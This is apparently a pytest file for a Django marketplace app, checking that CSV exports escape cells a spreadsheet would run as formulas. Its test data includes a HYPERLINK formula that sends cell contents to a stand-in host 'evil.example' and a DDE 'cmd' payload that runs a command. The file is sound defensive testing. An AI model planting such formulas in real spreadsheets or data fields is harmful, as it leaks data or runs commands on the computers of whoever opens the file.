"""CSV exports neutralise cells a spreadsheet would run as a formula (issue 11, item 3)."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from frontend.csvexport import neutralise
from marketplace.models import User
from matching.models import Allocation, MatchRun, Need

from .conftest import World
from .helpers import client_for, gid

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
DANGEROUS = [FORMULA, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=cmd|' /C calc'!A0"]


def _rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in "=+-@\t\r", f"formula cell {cell!r} in {row!r}"


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_dangerous_cell_is_neutralised(value: str):
    assert neutralise(value)[0] == "'" and value in neutralise(value).replace("\\|", "|")


@pytest.mark.parametrize("value", ["-12", "3.5", "白云社区", "", "a=b", "-0.25"])
def test_ordinary_cells_are_kept(value: str):
    assert neutralise(value) == value


@pytest.mark.postgres
def test_the_allocations_export_neutralises_need_unit_and_resource_names(world: World):
    # given a need, a unit and a resource whose names are formulas, in an allocation of a finished run
    world.unit.name = "@SUM(1+1)"
    world.unit.save(update_fields=["name"])
    world.canteen.name = "+cmd"
    world.canteen.save(update_fields=["name"])
    from matching.services.needs import NeedFields, post_need

    today = dt.date.today()
    need = post_need(actor=world.worker, data=NeedFields(
        category="CANTEEN", title=FORMULA, quantity=5, weekday_pattern="EVERY_DAY",
        start_time=dt.time(11), end_time=dt.time(12), starts_on=today + dt.timedelta(days=1),
        ends_on=today + dt.timedelta(days=10), target_group="ANYONE", max_distance_m=3000))
    assert Need.objects.get(pk=need.pk).title == FORMULA
    run = MatchRun.objects.create(status="SUCCEEDED", horizon_start=today, created_at=dt.datetime.now(dt.UTC))
    Allocation.objects.create(need=need, community=world.community, resource=world.canteen, match_run=run,
                              quantity=5, distance_m=100, weekdays=[0, 1, 2, 3, 4, 5, 6],
                              start_time=dt.time(11), end_time=dt.time(12), starts_on=today,
                              ends_on=today + dt.timedelta(days=10))
    # when district staff export the run's allocations
    rows = _rows(client_for(world.staff).get("/district/export/allocations.csv", {"run": gid("MatchRun", run.pk)}))
    # then the values are there, but none starts a formula
    assert len(rows) == 2
    assert rows[1][1] == "'" + FORMULA.replace("|", "\\|") and rows[1][2] == "'@SUM(1+1)" and rows[1][3] == "'+cmd"
    _assert_no_formula(rows)


def test_the_contribution_export_neutralises_the_unit_name(world: World):
    world.unit.name = "=1+1"
    world.unit.save(update_fields=["name"])
    rows = _rows(client_for(User.objects.get(pk=world.admin.pk)).get("/unit/contribution/", {"format": "csv"}))
    _assert_no_formula(rows)


def test_the_district_stats_exports_neutralise_subdistrict_names(world: World):
    world.community.subdistrict.name = "-2+3"
    world.community.subdistrict.save(update_fields=["name"])
    for kind in ("subdistricts", "categories"):
        _assert_no_formula(_rows(client_for(world.staff).get(f"/district/export/{kind}.csv")))
